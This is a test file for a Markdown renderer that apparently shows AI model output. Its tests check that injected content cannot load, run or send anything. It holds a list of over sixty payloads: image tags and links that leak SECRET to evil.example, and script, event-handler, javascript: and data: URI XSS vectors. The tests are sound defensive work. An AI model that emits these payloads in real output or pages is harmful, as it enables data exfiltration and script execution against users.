import { render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";
import { TooltipProvider } from "@/ui/Tooltip";
import { splitPieces } from "./blocks";
import { Markdown } from "./Markdown";
import { reveal } from "./reveal";

const bad = "https://evil.example/p.png?d=SECRET";

/** Ways to make a page load something, run something, or send something. */
const attacks: readonly string[] = [
  `![x](${bad})`,
  `![x][r]\n\n[r]: ${bad}`,
  `![r]\n\n[r]: ${bad}`,
  `![r][]\n\n[r]: ${bad}`,
  `[![x](${bad})](${bad})`,
  `![x](<${bad}>)`,
  `![x](${bad} "title")`,
  `![](${bad})`,
  `> ![x](${bad})`,
  `- ![x](${bad})`,
  `1. a\n   - ![x](${bad})`,
  `| a |\n| --- |\n| ![x](${bad}) |`,
  `**![x](${bad})**`,
  `~~![x](${bad})~~`,
  `# ![x](${bad})`,
  `![x](//evil.example/p.png?d=SECRET)`,
  `![x](http:/\\evil.example/p.png)`,
  `![x](HTTPS://EVIL.example/p.png)`,
  `![x](https&#58;//evil.example/p.png)`,
  `![x](https:&#47;&#47;evil.example/p.png)`,
  `![x](https://evil.example/SECRET/p.png)`,
  `![x](https://SECRET.evil.example/p.png)`,
  `![x](https://user:SECRET@evil.example/)`,
  `![x](data:image/svg+xml,<svg onload=alert(1)>)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x](data:image/png;base64,AAAA)`,
  `![x](data:text/html,<script>alert(1)</script>)`,
  `![x](javascript:alert(1))`,
  `![x](blob:https://evil.example/1)`,
  `![x](file:///etc/passwd)`,
  `![x](wails://wails/secret)`,
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](java&#10;script:alert(1))`,
  `[x](java\tscript:alert(1))`,
  `[x](&#106;avascript:alert(1))`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](file:///etc/passwd)`,
  `[x](countersign://approve)`,
  `[x](/ws)`,
  `[x](#/settings)`,
  `[x]\n\n[x]: javascript:alert(1)`,
  `<javascript:alert(1)>`,
  `<img src="${bad}">`,
  `<img src=x onerror=alert(1)>`,
  `<script>alert(1)</script>`,
  `<script src="${bad}"></script>`,
  `<iframe src="${bad}"></iframe>`,
  `<svg onload=alert(1)><image href="${bad}"/></svg>`,
  `<svg><foreignObject><img src="${bad}"></foreignObject></svg>`,
  `<link rel="stylesheet" href="${bad}">`,
  `<link rel="dns-prefetch" href="//SECRET.evil.example">`,
  `<style>@import url(${bad})</style>`,
  `<div style="background:url(${bad})">x</div>`,
  `<video src="${bad}" autoplay></video>`,
  `<audio src="${bad}" autoplay></audio>`,
  `<object data="${bad}"></object>`,
  `<embed src="${bad}">`,
  `<form action="${bad}"><input name=a value=SECRET><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${bad}">`,
  `<base href="${bad}">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<input autofocus onfocus=alert(1)>`,
  `<math><mtext><img src=x onerror=alert(1)></mtext></math>`,
  `<p>a ![x](${bad}) <img src="${bad}"></p>`,
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]; click A "javascript:alert(1)"\n```',
  "```html\n<script>alert(1)</script>\n```",
  `[^1]\n\n[^1]: ![x](${bad})`,
];

const forbidden =
  "img, script, iframe, svg image, object, embed, video, audio, link, style, form, meta, base, foreignObject, input, source, picture";

describe("a model's text", () => {
  it("knows at least sixty ways to leak or to run", () => {
    expect(attacks.length).toBeGreaterThanOrEqual(60);
  });

  it.each(attacks)("cannot load, run or send anything: %s", (attack) => {
    const { container } = render(
      <TooltipProvider>
        <Markdown text={attack} />
      </TooltipProvider>,
    );
    expect(container.querySelector(forbidden)).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^src|^srcdoc|^action|^formaction|^background|^poster|^xlink/);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
        if (name === "style") expect(value).not.toMatch(/url|expression|@import/);
      }
    }
  });

  it("shows where a picture would come from, and opens it only on a click, outside", async () => {
    const open = vi.spyOn(window, "open").mockReturnValue(null);
    render(<Markdown text={`![the chart](${bad})`} />);
    expect(screen.getByText(/not loaded, from evil\.example/)).toBeInTheDocument();
    expect(open).not.toHaveBeenCalled();
    await userEvent.click(screen.getByRole("button", { name: "Open in browser" }));
    expect(open).toHaveBeenCalledWith(bad, "_blank", "noopener,noreferrer");
  });

  it("says where a link leads when its words say something else", () => {
    render(<Markdown text="[bank.example](https://evil.example/login)" />);
    expect(screen.getByRole("link")).toHaveTextContent("bank.example (evil.example)");
  });

  it("shows HTML as the text it is", () => {
    const { container } = render(<Markdown text={'Use <b onclick="x()">this</b> tag.'} />);
    expect(container).toHaveTextContent('Use <b onclick="x()">this</b> tag.');
  });

  it("copies code byte for byte", async () => {
    const user = userEvent.setup();
    const code = "\tif x {\r\n\t\treturn  \r\n\t}\r\n\r\n";
    const write = vi.spyOn(navigator.clipboard, "writeText").mockResolvedValue();
    render(
      <TooltipProvider>
        <Markdown text={`Look:\r\n\r\n\`\`\`c\r\n${code}\`\`\`\r\n`} />
      </TooltipProvider>,
    );
    await user.click(screen.getByRole("button", { name: "Copy code" }));
    expect(write).toHaveBeenCalledWith(code.replace(/\r\n$/, ""));
    expect(await screen.findByRole("status")).toHaveTextContent("Copied");
  });
});

describe("cutting text into pieces", () => {
  it("keeps an open fence as code and says that it is not closed", () => {
    expect(splitPieces("a\n\n```go\nx := 1\n")).toEqual([
      { kind: "text", text: "a\n" },
      { kind: "code", language: "go", code: "x := 1\n", closed: false },
    ]);
  });

  it("ends a fence only at one as long, of the same kind", () => {
    expect(splitPieces("````\n```\n~~~~\n````")).toEqual([
      { kind: "code", language: "", code: "```\n~~~~", closed: true },
    ]);
  });

  it("keeps loose lists whole and hands definitions to every piece", () => {
    expect(
      splitPieces("- a\n\n- b\n\nc [x]\n\n[x]: https://a.example").map(
        (piece) => piece.kind === "text" && piece.text.split("\n\n")[0],
      ),
    ).toEqual(["- a", "c [x]", "[x]: https://a.example"]);
  });

  it("changes no earlier piece while text is added at the end", () => {
    const whole = "One.\n\n- a\n- b\n\n```js\nlet x = 1;\n```\n\nTwo.\n\nThree.";
    const final = splitPieces(whole);
    for (let length = 1; length <= whole.length; length += 1) {
      const pieces = splitPieces(whole.slice(0, length));
      expect(pieces.slice(0, -1)).toEqual(final.slice(0, pieces.length - 1));
    }
  });
});

describe("revealing", () => {
  it("writes out characters that hide or turn text", () => {
    expect(reveal("a\u202Egpj.exe\u200B\u0007\n\tb")).toBe("a⟨U+202E⟩gpj.exe⟨U+200B⟩⟨U+0007⟩\n\tb");
  });
});
